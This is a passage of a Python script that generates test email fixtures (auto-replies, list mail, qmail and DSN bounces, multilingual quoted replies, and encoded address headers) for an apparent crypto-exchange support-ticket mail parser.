auto("auto_x_autoreply", [("X-Autoreply", "yes")], "reply_header")
auto("auto_x_autorespond", [("X-Autorespond", "Out of office")], "reply_header")
auto("auto_response_suppress", [("X-Auto-Response-Suppress", "DR, OOF, AutoReply")], "reply_header")
auto("auto_mailer", [("X-Mailer", "Exchange Autoresponder 2.1")], "reply_header")
auto("auto_list", [("List-Id", "Exchange news <news.exchange.example>"),
                   ("List-Unsubscribe", "<mailto:unsub@exchange.example>")], "list")
auto("auto_list_post", [("List-Post", "<mailto:list@exchange.example>")], "list")
auto("auto_postmaster", [], "bounce", frm="Postmaster <postmaster@mx.example.cn>",
     from_addr="postmaster@mx.example.cn", from_name="Postmaster")
auto("auto_replies_combined", [("Auto-Submitted", "auto-replied"), ("Precedence", "junk"),
                               ("X-Auto-Response-Suppress", "All")],
     "submitted,precedence,reply_header")

QMAIL = ("Hi. This is the qmail-send program at mx.example.cn.\n"
         "I'm afraid I wasn't able to deliver your message to the following addresses.\n\n"
         "<nobody@example.cn>:\nSorry, no mailbox here by that name.\n\n"
         "--- Below this line is a copy of the message.\n\n"
         "Return-Path: <support@exchange.example>\n"
         "Message-ID: <ticket-EXD-1042-3@exchange.example>\n"
         "Subject: Re: withdrawal\n")
raw = header_block("bounce_qmail", "failure notice", [("Return-Path", "<>")],
                   frm="MAILER-DAEMON@mx.example.cn") + b"\n" + QMAIL.encode()
write("bounce_qmail", raw, "failure notice", QMAIL.rstrip(), flags="null_sender,bounce",
      dsn="ticket-EXD-1042-3@exchange.example", **{"from": "mailer-daemon@mx.example.cn"},
      from_name="")

DSN_TEXT = "This is the mail system at host mx.example.cn.\n\nI'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients.\n"
STATUS = b"Reporting-MTA: dns; mx.example.cn\n\nFinal-Recipient: rfc822; nobody@example.cn\nAction: failed\nStatus: 5.1.1\n"
ORIG = (b"From: Exchange Support <support@exchange.example>\nTo: nobody@example.cn\n"
        b"Subject: Re: your withdrawal\nMessage-ID: <ticket-EXD-2077-1@exchange.example>\n\nHello\n")
dsn = multipart("report", [
    leaf("text/plain; charset=us-ascii", DSN_TEXT.encode(), "7bit"),
    leaf("message/delivery-status", STATUS, "7bit"),
    b"Content-Type: message/rfc822\n\n" + ORIG,
], "dsn-1", "; report-type=delivery-status")
raw = header_block("bounce_dsn", "Undelivered Mail Returned to Sender",
                   [("Return-Path", "<>"), ("Auto-Submitted", "auto-replied"), ("MIME-Version", "1.0")],
                   frm="MAILER-DAEMON@mx.example.cn (Mail Delivery System)") + dsn
write("bounce_dsn", raw, "Undelivered Mail Returned to Sender", DSN_TEXT.rstrip(),
      flags="submitted,null_sender,bounce", dsn="ticket-EXD-2077-1@exchange.example",
      **{"from": "mailer-daemon@mx.example.cn"}, from_name="Mail Delivery System", attachments=2,
      attachment=[("delivery-status.txt", "message/delivery-status", len(STATUS), "attached"),
                  ("Re your withdrawal.eml", "message/rfc822", len(ORIG), "attached")])

HDRS = b"From: support@exchange.example\nMessage-ID: <ticket-EXD-3001-2@exchange.example>\nSubject: Re: KYC\n"
dsn2 = multipart("report", [
    leaf("text/plain; charset=us-ascii", b"Delivery failed.\n", "7bit"),
    leaf("message/delivery-status", STATUS, "7bit"),
    leaf("text/rfc822-headers", HDRS, "7bit"),
], "dsn-2", "; report-type=delivery-status")
raw = header_block("bounce_dsn_headers", "Delivery Status Notification (Failure)",
                   [("MIME-Version", "1.0")], frm="Mail Delivery Subsystem <mailer-daemon@googlemail.com>") + dsn2
write("bounce_dsn_headers", raw, "Delivery Status Notification (Failure)", "Delivery failed.",
      flags="bounce", dsn="ticket-EXD-3001-2@exchange.example",
      **{"from": "mailer-daemon@googlemail.com"}, from_name="Mail Delivery Subsystem", attachments=2,
      attachment=[("delivery-status.txt", "message/delivery-status", len(STATUS), "attached"),
                  ("original-headers.txt", "text/rfc822-headers", len(HDRS), "attached")])

# ---- replies with quoted history -----------------------------------------------------------------


def reply(name, body, visible, subject="Re: 工单 EXD-1042", **kw):
    raw = header_block(name, b_word(subject, "utf-8"),
                       [("In-Reply-To", "<ticket-EXD-1042-1@exchange.example>"),
                        ("References", "<ticket-EXD-1042-0@exchange.example>\n <ticket-EXD-1042-1@exchange.example>"),
                        ("MIME-Version", "1.0")]) + leaf("text/plain; charset=utf-8", body.encode(), "8bit")
    write(name, raw, subject, body.rstrip(), visible=visible, charset="utf-8",
          in_reply_to="ticket-EXD-1042-1@exchange.example",
          references="ticket-EXD-1042-0@exchange.example ticket-EXD-1042-1@exchange.example", **kw)


reply("reply_en",
      "Hi,\n\nthe TXID is 0x9a8b7c. The deposit was sent from Binance.\n\nThanks,\nJohn\n\n"
      "On Tue, Mar 5, 2024 at 10:20 AM Exchange Support <support@exchange.example>\nwrote:\n\n"
      "> Dear customer,\n>\n> please send us the TXID of your deposit.\n>\n> Exchange Support\n",
      "Hi,\n\nthe TXID is 0x9a8b7c. The deposit was sent from Binance.\n\nThanks,\nJohn")
reply("reply_zh",
      "好的，截图已经放在附件里了。\n\n------------------ 原始邮件 ------------------\n"
      "发件人: \"Exchange Support\"<support@exchange.example>;\n发送时间: 2024年3月5日(星期二) 上午10:20\n"
      "收件人: \"王伟\"<wang.wei@example.cn>;\n主题: Re: 工单 EXD-1042\n\n您好，请提供充值截图。\n",
      "好的，截图已经放在附件里了。")
reply("reply_zh_gmail",
      "已经重新提交了出金申请。\n\nExchange Support <support@exchange.example> 于2024年3月5日周二 10:20写道：\n\n"
      "> 您好，您的出金申请因地址错误被驳回。\n",
      "已经重新提交了出金申请。")
reply("reply_ja",
      "承知しました。本日中に本人確認書類を再提出します。\n\n"
      "2024/03/05 10:20、Exchange Support さんは書きました:\n> 本人確認書類が不鮮明でした。\n> 再提出をお願いします。\n",
      "承知しました。本日中に本人確認書類を再提出します。")
reply("reply_ru",
      "Спасибо, жду зачисления.\n\n-- \nИван Петров\n+7 900 000-00-00\n\n"
      "5 марта 2024 г., в 10:20, Exchange Support <support@exchange.example> написал(а):\n"
      "> Ваш вывод средств обработан.\n",
      "Спасибо, жду зачисления.")
reply("reply_signature",
      "Please check my withdrawal again.\n\n-- \nJohn Smith\nHead of Trading, Example Ltd\n",
      "Please check my withdrawal again.")
reply("reply_outlook",
      "Done, I have enabled 2FA again.\n\nBest regards\nAnna\n\n________________________________\n"
      "From: Exchange Support <support@exchange.example>\nSent: Tuesday, March 5, 2024 10:20 AM\n"
      "To: Anna Schmidt <anna@example.de>\nSubject: RE: 2FA reset\n\nDear Anna,\nyour 2FA was reset.\n",
      "Done, I have enabled 2FA again.\n\nBest regards\nAnna")
reply("reply_original_message",
      "Ok, thanks.\n\n-----Original Message-----\nFrom: Exchange Support [mailto:support@exchange.example]\n"
      "Sent: Tuesday, March 5, 2024 10:20 AM\nSubject: RE: frozen account\n\nYour account was unfrozen.\n",
      "Ok, thanks.")
reply("reply_interleaved",
      "Hello,\n\n> What is the amount?\n0.5 BTC\n\n> Which network?\nBitcoin mainnet\n\nJohn\n",
      None)
reply("reply_only_quote",
      "On Tue, Mar 5, 2024 at 10:20 AM Exchange Support <support@exchange.example> wrote:\n"
      "> Is the issue solved?\n",
      None)
reply("reply_trailing_quote",
      "Yes, solved. Thank you!\n\n> Is the issue solved?\n> Exchange Support\n",
      "Yes, solved. Thank you!")

# ---- header details ------------------------------------------------------------------------------

raw = header_block("headers_addresses", "Addresses", [
    ("Reply-To", "=?utf-8?Q?Li=2C_Na?= <Li.Na@Example.NET>"),
    ("MIME-Version", "1.0")],
    frm="\"=?gb2312?B?%s?=\" <Zhang.San@Example.COM>" % base64.b64encode("张三（VIP）".encode("gbk")).decode()
) + leaf("text/plain; charset=utf-8", b"x\n", "7bit")
write("headers_addresses", raw, "Addresses", "x", **{"from": "zhang.san@example.com"},
      from_name="张三（VIP）", reply_to="li.na@example.net")

raw = header_block("headers_raw_gbk_name", "Raw name", [("MIME-Version", "1.0")],
                   frm="\"张三\" <zhang@example.cn>".encode("gbk")) + leaf(
    "text/plain; charset=gbk", "你好\n".encode("gbk"), "8bit")
write("headers_raw_gbk_name", raw, "Raw name", "你好", **{"from": "zhang@example.cn"},
      from_name="张三", charset="gb18030")

raw = (b"From: nobody\nSubject: No date, no id\n\nBody\n")
write("headers_missing", raw, "No date, no id", "Body", **{"from": "(none)"}, from_name="",
      message_id="(none)", date="0")

with open(os.path.join(OUT, "MANIFEST"), "w") as f:
    f.write("\n".join(sorted(written)) + "\n")
print("wrote %d messages" % len(written))
